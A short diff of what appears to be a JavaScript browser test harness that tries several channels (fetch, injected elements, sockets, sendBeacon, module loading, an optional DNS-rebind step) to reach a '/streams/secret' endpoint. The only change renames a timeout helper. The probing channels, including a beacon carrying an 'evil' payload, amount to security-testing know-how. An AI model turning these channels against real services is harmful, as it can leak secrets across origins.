@@ -40,7 +40,7 @@ const json = { "content-type": "application/json" }
 const url = (path, by) => base + path + (path.includes("?") ? "&" : "?") + "by=" + by
 const events = "/streams/secret/events"
 const text = async (path, by, options) => await (await fetch(url(path, by), options)).text()
-const late = () => new Promise((resolve) => setTimeout(resolve, patience, ""))
+const giveUp = () => new Promise((resolve) => setTimeout(resolve, patience, ""))
 
 const element = (name, attribute, path, by, more = {}) => new Promise((resolve) => {
   const made = Object.assign(document.createElement(name), more)
@@ -93,7 +93,7 @@ const socket = (by) => new Promise((resolve) => {
 
 const beacon = (type, by) => {
   navigator.sendBeacon(url("/streams/secret", by), new Blob([evil], { type }))
-  return late()
+  return giveUp()
 }
 
 const module = async (by) => {
@@ -137,7 +137,7 @@ const go = async () => {
   if (asked.get("rebind") !== null) await fetch("/rebind")
   const read = await Promise.all(Object.entries(ways).map(async ([by, way]) => {
     try {
-      return { by, text: String(await Promise.race([way(by), late()])) }
+      return { by, text: String(await Promise.race([way(by), giveUp()])) }
     } catch (error) {
       return { by, text: "" }
     }
